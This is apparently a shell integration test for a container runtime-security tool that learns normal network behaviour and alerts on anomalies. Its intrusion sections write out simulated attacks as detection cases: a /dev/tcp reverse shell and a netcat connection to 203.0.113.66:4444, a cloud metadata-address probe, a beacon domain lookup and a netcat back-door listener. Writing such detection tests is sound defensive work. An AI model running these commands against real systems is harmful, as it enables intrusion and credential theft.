# SPDX-License-Identifier: GPL-2.0
# shellcheck shell=bash
# timeout: 400
# shellcheck disable=SC2154 # what comes from lib.sh
# An application's day: what it does in one pass is what it does in the next, in
# silence; an intruder is heard at once. Then the policy that is shipped, unedited.

unset INVOCATION_ID
group=case-model-day
cgroup "$group/app"
made_cgroups+=("$group")
link_netns box far 82.0
link_netns pod far 82.1
ip -n box route add default via 10.82.0.2
ip -n pod route add default via 10.82.1.2
addresses far 192.0.2.5 93.184.216.34 169.254.169.254 203.0.113.66
work=$(mktemp -d)
record=/run/dns.record
spawn in_netns far python3 /root/data/nameserver.py "$record" 53 10.82.0.2
wait_for 20 in_netns box env ASK_WAIT=1 python3 /root/data/ask.py udp 10.82.0.2 up.test >/dev/null || bail "no name server" server
in_netns far python3 /root/data/services.py 0.0.0.0 >"$work/services" 9>&- &
spawned_pids+=($!)
wait_for 20 grep -q ready "$work/services" || bail "no services" server
in_netns far busybox httpd -p 443 -h "$work"
peer far box 10.82.0.2 tcp:4444 tcp:8443
# ip netns exec puts its file over this one.
mkdir -p "$(dirname "$(readlink -m /etc/resolv.conf)")"
touch "$(readlink -m /etc/resolv.conf)"
mkdir -p /etc/netns/box "$work/apt"/{lists/partial,cache/archives/partial,etc}
printf 'nameserver 10.82.0.2\noptions timeout:1 attempts:1\n' >/etc/netns/box/resolv.conf
echo "deb [trusted=yes] http://10.82.0.2/debian stable main" >"$work/apt/etc/sources.list"
echo web >"$work/index.html"

apply <<-END
	rules:
	  - name: app
	    scope: {image: ["registry.local/app:*"]}
	    model: learn
	    outbound: {effect: alert}
	    listen: {effect: alert}
	    dns: {effect: alert}
END
check "bind" leveectl bind "/$group/app" --container app-1 --image registry.local/app:1

inside() {
	contained "$group/app" box timeout 60 "$@"
}
results() {
	inside curl -s -o /dev/null -w 'curl %{http_code} ' http://10.82.0.2/
	inside curl -s -o /dev/null -w '%{http_code}\n' http://93.184.216.34:443/index.html
	inside python3 -c 'import socket; print("resolver", socket.gethostbyname("api.a-93-184-216-34.test"))' 2>&1 | tail -n 1 | cut -c 1-8
	inside psql -h 10.82.0.2 -U app -w -d app -At -c 'select 1' | sed 's/^/psql /'
	inside apt-get -o Dir::Etc::SourceList="$work/apt/etc/sources.list" -o Dir::Etc::SourceParts=- \
		-o Dir::State::Lists="$work/apt/lists" -o Dir::Cache="$work/apt/cache" -o APT::Sandbox::User=root \
		-o Acquire::Retries=0 -qq update >/dev/null 2>&1
	echo "apt $?"
	inside python3 -c '
import http.server, threading, urllib.request
class Server(http.server.HTTPServer):
    pass
s = Server(("0.0.0.0", 8000), http.server.SimpleHTTPRequestHandler)
threading.Thread(target=s.serve_forever, daemon=True).start()
print("web", urllib.request.urlopen("http://10.82.0.1:8000/").status)' 2>/dev/null
}

# One pass learns.
results >"$work/first"
check_eq "what the application did" "$(paste -sd ' ' "$work/first")" "curl 200 200 resolver psql 1 apt 0 web 200"
no_audit "learning: not a word"
key=image:registry.local/app:1
check "freeze" leveectl model freeze "$key"

# The second pass is the same.
rm -rf "$work/apt/lists"/*
mkdir -p "$work/apt/lists/partial"
results >"$work/second"
check "the second pass does the same" diff "$work/first" "$work/second"
no_audit "active: not a word"

# An intruder.
intrusion() {
	local name=$1
	shift
	one_audit "$name" reason=not-in-model image=registry.local/app:1 "$@"
}
inside bash -c 'exec 3<>/dev/tcp/203.0.113.66/4444; echo id >&3' 2>/dev/null
intrusion "a reverse shell" feature=outbound address=203.0.113.66 port=4444 comm=bash
inside curl -s -m 2 -o /dev/null http://169.254.169.254/latest/meta-data/
intrusion "the metadata address" feature=outbound address=169.254.169.254 comm=curl
inside env ASK_WAIT=0.3 python3 /root/data/ask.py udp 10.82.0.2 beacon.evil.example >/dev/null
intrusion "a beacon to a new domain" feature=dns domain=beacon.evil.example comm=python3
inside timeout 1 nc -l -p 31337 >/dev/null 2>&1
intrusion "a back door" feature=listen port=31337 comm=nc

# The policy that is shipped, on a container of podman, with nothing edited. An hour
# and a day are what `freeze` stands for.
leveectl flush
check "the default policy" leveectl apply /etc/levee/policy.yaml
mark_audits
container first --network ns:/run/netns/pod
day() {
	podman exec first timeout 8 wget -q -O - http://10.82.1.2/
	podman exec first timeout 8 wget -q -O - http://93.184.216.34:443/index.html
	podman exec first ping -c 1 10.82.1.2
	podman exec first nslookup -type=a api.a-93-184-216-34.test 10.82.1.2
	podman exec first sh -c 'timeout 3 nc -l -p 8080 -e cat & sleep 1; echo hi | nc -w 2 127.0.0.1 8080'
} >/dev/null 2>&1
day
no_audit "default: an ordinary day is silent"
key=cgroup:$container_cgroup
check "default: its days are over" leveectl model freeze "$key"
day
no_audit "default: the next day, too"
podman exec first timeout 2 nc 203.0.113.66 4444 </dev/null >/dev/null 2>&1
one_audit "default: a reverse shell" reason=not-in-model feature=outbound effect=alert address=203.0.113.66 port=4444 comm=nc "rule=default - alert on suspicious runtime behavior"
podman exec first timeout 3 wget -q -O - http://169.254.169.254/ >/dev/null 2>&1
one_audit "default: the metadata address" reason=not-in-model feature=outbound address=169.254.169.254
podman exec first timeout 1 nc -l -p 31337 >/dev/null 2>&1
one_audit "default: a back door" reason=not-in-model feature=listen port=31337
rm -rf "$work" /etc/netns/box
